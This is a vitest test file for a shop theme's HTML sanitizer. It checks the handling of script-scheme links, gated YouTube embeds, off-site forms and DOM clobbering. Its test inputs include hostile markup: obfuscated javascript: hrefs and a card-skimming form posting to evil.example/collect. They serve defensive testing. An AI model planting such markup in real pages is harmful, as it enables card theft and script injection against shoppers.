import { beforeAll, describe, expect, it } from 'vitest';
import { HOSTILE, expectInert } from '../../test/helpers/hostile';
import { sanitizeFragment, sanitizerReady } from './sanitize';
import { enforceContract, type SanitizeOptions } from './sanitize-rules';

const gate: SanitizeOptions['blockedBy'] = (url) => (/youtube\.com|ytimg\.com/.test(url) ? 'youtube' : null);
/** As an engine leaves it: a fragment of a parser's document of its own, where nothing loads. */
const inert = (html: string) => {
  const doc = new DOMParser().parseFromString(`<body>${html}`, 'text/html');
  const fragment = doc.createDocumentFragment();
  fragment.append(...doc.body.childNodes);
  return fragment;
};
const walked = (html: string, options: Partial<SanitizeOptions> = {}) => {
  const fragment = inert(html);
  enforceContract(fragment, { blockedBy: gate, ...options });
  return fragment;
};

describe("the contract's walk, shared by both engines", () => {
  it('keeps links to http(s), mailto: and tel: only, as the URL parser reads them', () => {
    const out = walked(
      '<a id="a" href="java&#9;script:x">a</a><a id="b" href="&#1;javascript:x">b</a><a id="c" href="mailto:s@shop.example">c</a>' +
        '<a id="d" href="/cart/">d</a><blockquote id="e" cite="vbscript:x">e</blockquote><a id="f" ping="data:,x">f</a>',
    );
    const href = (id: string, attr = 'href') => out.querySelector(`#${id}`)!.getAttribute(attr);
    expect([href('a'), href('b'), href('c'), href('d'), href('e', 'cite'), href('f', 'ping')]).toEqual([
      null,
      null,
      'mailto:s@shop.example',
      '/cart/',
      null,
      null,
    ]);
  });

  it('holds what loads from a gated host in the theme’s blocked form; drops loads that are not http(s)', () => {
    const out = walked(
      '<iframe id="yt" src="https://www.youtube.com/embed/x"></iframe><img id="d" src="data:image/png;base64,x">' +
        '<img id="s" src="/a.png" srcset="/a.png 1x, https://i.ytimg.com/vi/x/0.jpg 2x"><video id="v" poster="https://i.ytimg.com/p.jpg"></video>' +
        '<span id="st" style="background:url(https://i.ytimg.com/b.jpg)">x</span><img id="ok" src="https://cdn.example/p.jpg">',
    );
    const yt = out.querySelector('#yt')!;
    expect([yt.getAttribute('src'), yt.getAttribute('data-privacy-src'), yt.getAttribute('data-privacy-type')]).toEqual([
      null,
      'https://www.youtube.com/embed/x',
      'youtube',
    ]);
    expect(out.querySelector('#d')!.hasAttribute('src')).toBe(false);
    expect(out.querySelector('#s')!.hasAttribute('srcset')).toBe(false);
    expect(out.querySelector('#v')!.hasAttribute('poster')).toBe(false);
    expect(out.querySelector('#st')!.hasAttribute('style')).toBe(false);
    expect(out.querySelector('#ok')!.getAttribute('src')).toBe('https://cdn.example/p.jpg');
  });

  it('removes a form posting off-site with its fields, a stylesheet loading past the gate; opens new tabs without opener', () => {
    const out = walked(
      '<form id="off" action="https://evil.example/collect"><input name="card"></form><form id="shop" action="/checkout/"><input name="card"></form>' +
        '<button id="b" formaction="https://evil.example/">b</button><style id="css">p{background:url(https://i.ytimg.com/x.jpg)}</style>' +
        '<a id="t" href="https://shop.example/" target="_blank">t</a>',
    );
    expect(out.querySelector('#off')).toBeNull();
    expect([...out.querySelectorAll('[name="card"]')].map((field) => field.closest('form')?.id)).toEqual(['shop']);
    expect(out.querySelector('#b')!.hasAttribute('formaction')).toBe(false);
    expect(out.querySelector('#css')).toBeNull();
    expect(out.querySelector('#t')!.getAttribute('rel')).toBe('noopener noreferrer');
  });

  it('walks template contents too', () => {
    const out = walked('<template><a href="javascript:x">a</a><img src="https://i.ytimg.com/vi/x/0.jpg"></template>');
    const content = out.querySelector('template')!.content;
    expect(content.querySelector('a')!.hasAttribute('href')).toBe(false);
    expect(content.querySelector('img')!.getAttribute('data-privacy-type')).toBe('youtube');
  });

  it('guards against DOM clobbering, except for the shop’s own forms, whose fields keep the names the order needs', () => {
    const html = '<form action="/checkout/"><input id="cookie" name="action"><input name="payment_method"></form>';
    const guarded = walked(html);
    expect([...guarded.querySelectorAll('input')].map((i) => [i.id, i.getAttribute('name')])).toEqual([
      ['', null],
      ['', 'payment_method'],
    ]);
    const shop = walked(html, { shopForms: true });
    expect([...shop.querySelectorAll('input')].map((i) => [i.id, i.getAttribute('name')])).toEqual([
      ['cookie', 'action'],
      ['', 'payment_method'],
    ]);
  });

  it('removes a form whose fields shadow the DOM methods code calls on it, and unwraps custom elements', () => {
    const out = walked(
      '<form id="f" action="/cart/"><input name="removeAttribute"></form><wc-order-attribution-inputs><p id="kept">k</p></wc-order-attribution-inputs>',
      { shopForms: true },
    );
    expect(out.querySelector('#f')).toBeNull();
    expect(out.querySelector('wc-order-attribution-inputs')).toBeNull();
    expect(out.querySelector('#kept')?.textContent).toBe('k');
  });
});

describe('the one sanitizer without the browser’s own (happy-dom, Safari): DOMPurify', () => {
  beforeAll(() => sanitizerReady(), 60_000);

  it('removes what would act, and hands over inline scripts’ text without running them', () => {
    const scriptTexts: string[] = [];
    const out = sanitizeFragment(`<div>${HOSTILE}<script src="/lib.js"></script></div>`, { blockedBy: gate, scriptTexts });
    expectInert(out);
    expect(scriptTexts).toEqual(['window.__pwned = 1']);
    expect(out.querySelector('.hostile-frame')).not.toBeNull();
  });

  it('keeps a frame, held until consent, and the shop form’s field names', () => {
    const out = sanitizeFragment(
      '<iframe src="https://www.youtube.com/embed/x" allowfullscreen></iframe><form action="/checkout/"><input name="action" value="1"></form>',
      { blockedBy: gate, shopForms: true },
    );
    expect(out.querySelector('iframe')!.getAttribute('data-privacy-src')).toBe('https://www.youtube.com/embed/x');
    expect(out.querySelector('iframe')!.hasAttribute('allowfullscreen')).toBe(true);
    expect(out.querySelector('input')!.getAttribute('name')).toBe('action');
  });
});
